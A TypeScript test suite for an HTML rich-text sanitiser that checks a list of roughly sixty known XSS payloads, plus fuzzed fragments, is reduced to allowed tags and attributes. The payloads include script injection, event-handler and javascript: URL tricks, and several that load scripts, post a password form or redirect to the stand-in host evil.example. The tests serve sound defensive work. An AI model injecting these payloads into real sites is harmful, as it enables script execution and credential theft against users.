import { richTextProfiles, type RichTextProfileName } from "@kontor/contract/rich-text";
import fc from "fast-check";
import { describe, expect, it } from "vitest";

import { sanitizeRichText } from "./rich-text.ts";

const profileNames = Object.keys(richTextProfiles) as RichTextProfileName[];

/** Attacks that have worked on some sanitiser or browser, each with the text "safe" that must stay. */
const attacks: readonly string[] = [
  `safe<script>alert(1)</script>`,
  `safe<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `safe<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `safe<img src=x onerror=alert(1)>`,
  `safe<img/src/onerror=alert(1)>`,
  `safe<svg onload=alert(1)>`,
  `safe<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>`,
  `safe<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `safe<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `safe<math><mi xlink:href="data:x,<script>alert(1)</script>"></math>`,
  `safe<iframe src="javascript:alert(1)"></iframe>`,
  `safe<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `safe<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">`,
  `<body onload=alert(1)>safe</body>`,
  `<p onclick="alert(1)">safe</p>`,
  `<p style="background:url(javascript:alert(1))">safe</p>`,
  `<p style="width:expression(alert(1))">safe</p>`,
  `<span style="color:red;background:url(//evil.example)">safe</span>`,
  `<span style="font-size:99999px">safe</span>`,
  `<span style="color:#fff;position:fixed;inset:0">safe</span>`,
  `<span style="color:\\65xpression(alert(1))">safe</span>`,
  `<a href="javascript:alert(1)">safe</a>`,
  `<a href="JaVaScRiPt:alert(1)">safe</a>`,
  `<a href=" javascript:alert(1)">safe</a>`,
  `<a href="java\tscript:alert(1)">safe</a>`,
  `<a href="java&#10;script:alert(1)">safe</a>`,
  `<a href="&#106;avascript:alert(1)">safe</a>`,
  `<a href="\u0001javascript:alert(1)">safe</a>`,
  `<a href="javascript&colon;alert(1)">safe</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">safe</a>`,
  `<a href="vbscript:msgbox(1)">safe</a>`,
  `<a href="//evil.example">safe</a>`,
  `<a href="/\\evil.example">safe</a>`,
  `<a href="https:evil.example">safe</a>`,
  `<a href="/organizations">safe</a>`,
  `<a href="{{offer_link}}javascript:alert(1)">safe</a>`,
  `<a href="https://example.com" onmouseover="alert(1)" target="_self">safe</a>`,
  `<a href='https://example.com/"onmouseover="alert(1)'>safe</a>`,
  `<form action="https://evil.example"><input name=password><button>safe</button></form>`,
  `<base href="https://evil.example/">safe`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">safe`,
  `<link rel="stylesheet" href="https://evil.example/x.css">safe`,
  `<style>p{background:url(https://evil.example)}</style>safe`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>safe`,
  `<textarea></textarea><img src=x onerror=alert(1)>safe`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>safe`,
  `<!--><img src=x onerror=alert(1)>-->safe`,
  `<![CDATA[<script>alert(1)</script>]]>safe`,
  `<p title="<img src=x onerror=alert(1)>">safe</p>`,
  `safe&lt;script&gt;alert(1)&lt;/script&gt;`,
  `<p/onclick=alert(1)>safe</p>`,
  `<a href="https://example.com"><script>alert(1)</script>safe</a>`,
  `<x-custom onfocus=alert(1) tabindex=1 autofocus>safe</x-custom>`,
  `<details open ontoggle=alert(1)>safe</details>`,
  `<marquee onstart=alert(1)>safe</marquee>`,
  `safe<p`,
  `<<p>>safe`,
  `<p>safe<\u0000script>alert(1)</script>`,
];

/** Fragments of markup to be combined at random. */
const fragments = [
  "<p>",
  "</p>",
  "<b>",
  "</b>",
  "<a href=",
  "'",
  '"',
  ">",
  "<",
  "/",
  "=",
  "&",
  "&lt;",
  "<script>",
  "</script>",
  "<style>",
  "</style>",
  "<!--",
  "-->",
  "<svg>",
  "</svg>",
  " ",
  "https://example.com",
  "javascript:alert(1)",
  " onclick=alert(1) ",
  "<span style='",
  "color:#fff",
  "font-size:12px",
  "url(x)",
  ";",
  "<h1>",
  "<ul><li>",
  "</a>",
  "\u0000",
];

/** Parses HTML strictly: every tag and every attribute must be allowed by the profile. */
function expectOnlyAllowed(html: string, profileName: RichTextProfileName): void {
  const allowed = new Set<string>(richTextProfiles[profileName].tags);
  const rest = html.replaceAll(
    /<(\/?)([a-z][a-z0-9]*)((?: [a-z-]+="[^"<>]*")*)( \/)?>/g,
    (_whole, slash: string, tag: string, attributes: string) => {
      expect(allowed).toContain(tag);
      expect(slash === "/" && attributes !== "").toBe(false);
      for (const [, name = "", value = ""] of attributes.matchAll(/ ([a-z-]+)="([^"]*)"/g)) {
        expect([tag, name]).toEqual(tag === "a" ? ["a", "href"] : ["span", "style"]);
        expect(value).toMatch(
          tag === "a"
            ? /^(https?:\/\/|mailto:|\{\{[a-z0-9_]+_link\}\}$)/i
            : /^((color|font-size):[#a-z0-9.,() ]+;?)+$/i,
        );
      }
      return "";
    },
  );
  expect(rest).not.toMatch(/[<>]/);
}

describe.each(profileNames)("profile %s", (profileName) => {
  it.each(attacks)("removes everything executable from %s", (attack) => {
    const clean = sanitizeRichText(attack, profileName);
    expectOnlyAllowed(clean, profileName);
    expect(sanitizeRichText(clean, profileName)).toBe(clean);
  });

  it("keeps the visible text", () => {
    const readable = attacks.filter((attack) => !/<xmp|<textarea|<noscript|safe<p$/.test(attack));
    for (const attack of readable) {
      expect(sanitizeRichText(attack, profileName)).toContain("safe");
    }
  });

  it("is unchanged when sanitised again, whatever the input", () => {
    const piece = fc.oneof(fc.constantFrom(...fragments), fc.string({ maxLength: 6 }));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
        const clean = sanitizeRichText(pieces.join(""), profileName);
        expectOnlyAllowed(clean, profileName);
        expect(sanitizeRichText(clean, profileName)).toBe(clean);
      }),
      { numRuns: 2000 },
    );
  });

  it("never nests paragraphs when an element between them is dropped", () => {
    const clean = sanitizeRichText("<p>one<section><p>two</p></section></p>", profileName);
    expect(clean).not.toMatch(/<p>[^/]*<p>/);
    expect(sanitizeRichText(clean, profileName)).toBe(clean);
  });

  it("terminates, however deeply tags are nested", () => {
    const clean = sanitizeRichText(`${"<strong>".repeat(5000)}safe`, profileName);
    expect(clean).toContain("safe");
    expect(clean.length).toBeLessThan(2000);
  });
});

describe("allowed markup", () => {
  it("keeps bold, italic, underline and links, each with one spelling", () => {
    const html = `<p>One <b>two</b> <i>three</i> <strong>four</strong> <em>five</em> <u>six</u><br><a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener">seven</a></p>`;
    expect(sanitizeRichText(html, "basic")).toBe(
      `<p>One <strong>two</strong> <em>three</em> <strong>four</strong> <em>five</em> <u>six</u><br /><a href="https://example.com/?a=1&amp;b=2">seven</a></p>`,
    );
  });

  it.each([
    "http://example.com",
    "https://example.com/a%20b?q=1#part",
    "HTTPS://EXAMPLE.COM",
    "mailto:office@example.com",
    "{{offer_link}}",
  ])("keeps a link to %s", (href) => {
    expect(sanitizeRichText(`<p><a href="${href}">there</a></p>`, "basic")).toBe(
      `<p><a href="${href}">there</a></p>`,
    );
  });

  it("keeps the text of unknown formatting", () => {
    const html = `<h2>Title</h2><ul><li>one</li></ul><table><tr><td>two</td></tr></table><p><span style="color:#ff0000">three</span></p>`;
    expect(sanitizeRichText(html, "basic")).toBe("Titleonetwo<p>three</p>");
  });

  it("removes links and line breaks from a subject", () => {
    expect(
      sanitizeRichText(
        `<p>An <u>offer</u> from <a href="https://example.com">us</a><br></p>`,
        "subject",
      ),
    ).toBe("<p>An <u>offer</u> from us</p>");
  });

  it("keeps lists, headers, plain colours and sensible sizes in letters", () => {
    const html = `<h1>A</h1><h4>B</h4><ul><li>C</li></ul><ol><li>D</li></ol><p><span style="color:#0c768a;font-size:18px">E</span> <span style="color:rgb(1, 2, 3)">F</span></p>`;
    expect(sanitizeRichText(html, "full")).toBe(html);
    expect(sanitizeRichText(`<h5>G</h5><span style="color:url(x)">H</span>`, "full")).toBe("GH");
  });

  it.each(["", " ", "<p></p>", "<p><br></p>", "<p>&nbsp;</p>", "<script>1</script>"])(
    "treats %j as empty",
    (html) => {
      expect(sanitizeRichText(html, "basic")).toBe("");
    },
  );

  it("leaves other scripts, right-to-left text and emoji unchanged", () => {
    const html = "<p>مرحبا بالعالم · Ẹ kú àárọ̀ · 你好 · 👩🏽‍💻 &amp; ₦5</p>";
    expect(sanitizeRichText(html, "basic")).toBe(html);
  });
});
